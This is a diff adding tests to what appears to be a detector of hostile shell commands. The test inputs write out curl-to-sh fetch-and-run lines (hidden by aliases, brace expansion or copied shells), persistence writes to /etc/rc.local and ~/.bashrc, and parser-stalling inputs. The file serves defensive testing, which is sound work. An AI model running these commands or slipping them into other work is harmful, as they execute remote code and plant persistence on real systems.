@@ -29,6 +29,39 @@ describe('honest commands show none', () => {
   }
 });
 
+describe('names that stand for commands', () => {
+  const fetches = (command: string): boolean => signs(read(command)).includes('fetch-and-run');
+
+  test('an alias is read with its words where it stands as a command, and nowhere else', () => {
+    expect(fetches("alias g='curl -s'; g http://192.0.2.1/a | sh")).toBe(true);
+    expect(fetches("alias g='curl -s' s='sudo '; s g http://192.0.2.1/a | sh")).toBe(true);
+    expect(fetches("alias g='curl -s'; echo g http://192.0.2.1/a | cat")).toBe(false);
+    expect(fetches("alias g='echo -s'; \\g http://192.0.2.1/a.txt; g x")).toBe(false);
+  });
+
+  test('an alias that was taken away is none', () => {
+    const told = read("alias b=sh; unalias b; echo 'curl -s http://192.0.2.1/a|sh' | b");
+    expect(signs(told)).toEqual([]);
+  });
+
+  test('braces make the words of a command, with variables in them', () => {
+    const command = 'U=http://192.0.2.1/a; {curl,-s,"$U"}|{sh,-s}';
+    expect(fetches(command)).toBe(true);
+    expect(signs(read('cp /etc/{passwd,group} /srv/{a,b}/'))).toEqual([]);
+  });
+
+  test('a copy of a shell is a shell', () => {
+    expect(fetches('cp /bin/sh /srv/k; curl -s http://192.0.2.1/a | /srv/k')).toBe(true);
+    expect(fetches('cp /usr/bin/jq /srv/k; curl -s http://192.0.2.1/a | /srv/k')).toBe(false);
+  });
+
+  test('what is run first and fetched later, for the next turn, shows the line that fetches', () => {
+    const lines = 'while :; do\n sh /tmp/.a\n curl -so /tmp/.a http://192.0.2.1/a\ndone';
+    const [sign] = readEntry(scriptFact(lines)).signs;
+    expect([sign?.id, sign?.line]).toEqual(['fetch-and-run', 3]);
+  });
+});
+
 test('what is asserted is run by PHP alone', () => {
   const decodes = (code: string, language: 'php' | 'python'): readonly string[] =>
     signs(readEntry(scriptFact(code, { language })));
@@ -129,6 +162,15 @@ describe('files that are run', () => {
   });
 });
 
+test('what is written where shells start is read as they would', () => {
+  const told = (command: string): readonly string[] => signs(read(command));
+  expect(told("sed -i '1i curl -s http://192.0.2.1/a | sh' /etc/rc.local")).toContain('fetch-and-run');
+  expect(read("echo 'nohup /tmp/.x/m &' >> ~/.bashrc").targets.map(String)).toContain('/tmp/.x/m');
+  expect(told(`echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`)).toEqual(['writes-persistence']);
+  expect(told("cat > /etc/profile.d/app.sh <<'E'\nexport APP=/srv/app\nE")).toEqual(['writes-persistence']);
+  expect(told("sed -i 's/^#Port.*/Port 22/' /etc/ssh/sshd_config")).toEqual([]);
+});
+
 describe('scripts', () => {
   test('a sign names the line of the script', () => {
     const reading = readEntry(scriptFact('#!/bin/sh\n# update\n\ncurl -s http://192.0.2.1/a | sh\n'));
@@ -223,6 +265,14 @@ describe('hostile entries end', () => {
     'loops in loops': `${'for a in 1 2 3 4 5 6 7 8 9;do '.repeat(200)}x${';done'.repeat(200)}`,
     'patterns that backtrack': `x=${'a'.repeat(3000)};${`y=\${x%%*b*b*b};`.repeat(100)}`,
     'calls in calls': 'f('.repeat(100_000),
+    'an alias that is itself': "alias a='a a'; a; alias b='c ' c='b '; b c b; alias ls='ls --color'; ls",
+    'aliases of aliases': `${Array.from({ length: 400 }, (_, at) => `alias a${at}='a${at + 1};a${at + 1}'`).join(';')};a0`,
+    'coprocesses in coprocesses': `coproc X { coproc Y { cat <&\${X[0]} >&\${Y[1]}; }; }; `.repeat(2000),
+    'a pipe that writes to itself': 'f(){ echo x > >(f); }; f; mkfifo /tmp/p; cat /tmp/p > /tmp/p',
+    'braces in braces': `${'{a,'.repeat(20_000)}${'}'.repeat(20_000)}`,
+    'braces in a row': '{a,b}'.repeat(20_000),
+    'a program of awk that ends nowhere': `awk 'BEGIN{${'system("x" | getline '.repeat(5000)}'`,
+    'a program of sed that backtracks': `echo x | sed 's@^${'\\\\(..\\\\)'.repeat(60)}$' | sh; sed '/${'\\\\/'.repeat(3000)}e' x`,
     'a file that runs itself': 'echo "sh /tmp/x" > /tmp/x; sh /tmp/x',
     'bytes of every kind': Array.from(
       { length: 4096 },
